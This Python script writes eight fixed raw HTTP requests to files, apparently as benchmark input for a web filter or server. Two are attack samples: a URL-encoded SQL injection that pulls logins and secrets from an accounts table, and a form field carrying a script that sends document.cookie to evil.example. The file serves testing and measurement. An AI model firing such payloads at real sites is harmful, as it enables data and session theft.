"""Writes the eight requests that are measured, as raw HTTP/1.1, always the same bytes: bench_requests.py DIRECTORY

R1 the smallest GET · R2 a page as a browser asks for it · R3 2 KiB of JSON · R4 a form of 1 KiB
R5 an upload of 64 KiB · R6 SQL injection in the query · R7 a script in a form · R8 a form of 128 KiB
"""
import json
import os
import random
import sys

HOST = [("Host", "shop.example.net")]
BROWSER = HOST + [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "de-CH,de;q=0.8,en;q=0.5"), ("Accept-Encoding", "gzip, deflate, br"),
]
FORM = ("Content-Type", "application/x-www-form-urlencoded")
WORDS = """amber anchor autumn basket beacon blanket breeze candle canvas carpet cedar chapel cobble copper cotton
cradle crystal dawn drizzle ember engine fabric feather ferry fiddle forge fountain galaxy garnet ginger glacier harvest
hazel horizon island ivory jacket jasmine kettle lantern lavender lemon linen magnet maple marble meadow mirror needle
nutmeg oak olive orchard paddle parcel pebble pepper piano pillow planet plum pocket quartz quilt ribbon saddle saffron
sapphire shelf silver sparrow spruce summit sunset thimble thistle timber tulip velvet violet walnut willow window
wool""".split()


def request(method, target, headers, body=b""):
    if body:
        headers = headers + [("Content-Length", str(len(body)))]
    head = "".join("%s: %s\r\n" % header for header in headers)
    return ("%s %s HTTP/1.1\r\n%s\r\n" % (method, target, head)).encode() + body


def text(source, size):
    words = ""
    while len(words) < size:
        words += source.choice(WORDS) + " "
    return words[:size].strip()


def form(source, fields, size):
    """A form of exactly `size` bytes: words in `fields` fields of about the same length."""
    each = size // fields
    parts = []
    for index in range(fields):
        name = "field_%02d=" % index
        parts.append(name + text(source, each - len(name) - 2).replace(" ", "+"))
    body = "&".join(parts)
    return (body + "x" * (size - len(body))).encode()


def order(source):
    items = [{"article": "AR-%04d" % number, "name": text(source, 40), "count": number % 4 + 1,
              "price": round(2.45 + 1.7 * number, 2), "marks": source.sample(WORDS, 3)} for number in range(13)]
    body = json.dumps({"order": "2025-10-07-0042", "buyer": {
        "number": 7712, "name": "Jonas Frei", "mail": "jonas.frei@example.net", "letter": False,
        "place": {"street": "Seeweg 4", "town": "Thun", "code": "3600"}}, "items": items}).encode()
    return body


def upload(source):
    boundary = "----FormBoundaryq8Zt3LmWx5Rb1Ne7"
    parts = [('name="heading"', "Autumn walk"), ('name="folder"', "lake"), ('name="words"', text(source, 120))]
    body = b""
    for disposition, value in parts:
        body += ("--%s\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n" % (boundary, disposition, value)).encode()
    body += ("--%s\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"lake.jpg\"\r\n"
             "Content-Type: image/jpeg\r\n\r\n" % boundary).encode()
    body += bytes(source.getrandbits(8) for _ in range(65536)) + ("\r\n--%s--\r\n" % boundary).encode()
    return boundary, body


def requests():
    source = random.Random(20251007)
    boundary, picture = upload(source)
    cookies = "sid=9c1e7b3f5a2d4806; view=list; locale=de-CH; _ga=GA1.2.5512097734.1728000000; basket=71aa; ok=stats"
    target = "/lamps/search?room=living-room&page=2&order=price_desc&q=small+brass+lamp"
    injection = ("/lamps/show?number=7%27%20OR%20%27x%27%3D%27x%27%20UNION%20SELECT%20login%2C%20secret"
                 "%20FROM%20accounts%20--%20")
    origin = [("Origin", "https://shop.example.net"), ("Referer", "https://shop.example.net/form.html")]
    return {
        "R1": request("GET", "/", HOST + [("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]),
        "R2": request("GET", target, BROWSER + [
            ("Referer", "https://shop.example.net/lamps/index.html"), ("Cookie", cookies), ("DNT", "1"),
            ("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Site", "same-origin")]),
        "R3": request("POST", "/api/orders", BROWSER[:2] + [
            ("Accept", "application/json"), ("Content-Type", "application/json")], order(source)),
        "R4": request("POST", "/message/send", BROWSER + [FORM] + origin, form(source, 16, 1024)),
        "R5": request("POST", "/pictures/add", BROWSER + [
            ("Content-Type", "multipart/form-data; boundary=" + boundary)], picture),
        "R6": request("GET", injection, BROWSER),
        "R7": request("POST", "/guests/add", BROWSER + [FORM] + origin,
                      b"who=Lia&text=%3Cscript%3Efetch%28%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%29"
                      b"%3C%2Fscript%3E"),
        "R8": request("POST", "/texts/store", BROWSER + [FORM] + origin, form(source, 50, 131072)),
    }


def write(directory):
    os.makedirs(directory, exist_ok=True)
    for name, data in requests().items():
        with open(os.path.join(directory, name + ".http"), "wb") as file:
            file.write(data)


if __name__ == "__main__":
    write(sys.argv[1])
